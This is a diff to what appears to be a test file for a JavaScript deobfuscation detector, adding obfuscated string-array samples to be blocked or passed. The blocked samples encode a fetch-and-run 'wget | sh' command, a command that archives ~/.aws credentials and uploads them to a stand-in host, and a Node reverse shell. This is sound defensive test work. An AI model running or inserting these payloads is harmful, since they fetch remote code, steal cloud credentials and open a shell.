@@ -51,3 +51,46 @@ form.addEventListener('submit',function(){fetch(u,{method:'POST',body:new FormDa
     ],
   },
 ]);
+
+/** javascript-obfuscator's string array behind an accessor (index shift, base64 encoding). */
+const wrapped = (items: string[], call: string, shift = 0, b64 = true) =>
+  `var _0x5e1c=[${items.map((s) => `'${b64 ? enc.b64(s) : s}'`).join(",")}];` +
+  `function _0x2f9a(_0x11,_0x22){_0x11=_0x11-${shift};return ${
+    b64 ? "atob(" : "("
+  }_0x5e1c[_0x11]);}${call}`;
+
+deobfCases("javascript-accessor", [
+  {
+    id: "decoded",
+    block: [
+      wrapped(
+        ["child_process", "exec", "wget -qO- http://192.0.2.61/x | sh"],
+        "require(_0x2f9a(0x10))[_0x2f9a(0x11)](_0x2f9a(0x12));",
+        0x10,
+      ),
+      wrapped(
+        ["child_process", "execSync", "tar cz ~/.aws | curl -T - https://192.0.2.61/u"],
+        "const c=require(_0x2f9a(0));c[_0x2f9a(1)](_0x2f9a(2));",
+        0,
+        false,
+      ),
+      wrapped(
+        ["net", "Socket", "192.0.2.61", "/bin/sh", "child_process", "spawn"],
+        "var n=require(_0x2f9a(0x1));var s=new n[_0x2f9a(0x2)]();s.connect(4444,_0x2f9a(0x3),function(){var p=require(_0x2f9a(0x5))[_0x2f9a(0x6)](_0x2f9a(0x4),[]);s.pipe(p.stdin);p.stdout.pipe(s);});",
+        1,
+      ),
+    ],
+    pass: [
+      wrapped(
+        ["child_process", "exec", "git status --short"],
+        "require(_0x2f9a(0x10))[_0x2f9a(0x11)](_0x2f9a(0x12));",
+        0x10,
+      ),
+      wrapped(["log", "build finished"], "console[_0x2f9a(0)](_0x2f9a(1));"),
+      wrapped(
+        ["fs", "readFileSync", "package.json"],
+        "require(_0x2f9a(0))[_0x2f9a(1)](_0x2f9a(2));",
+      ),
+    ],
+  },
+]);
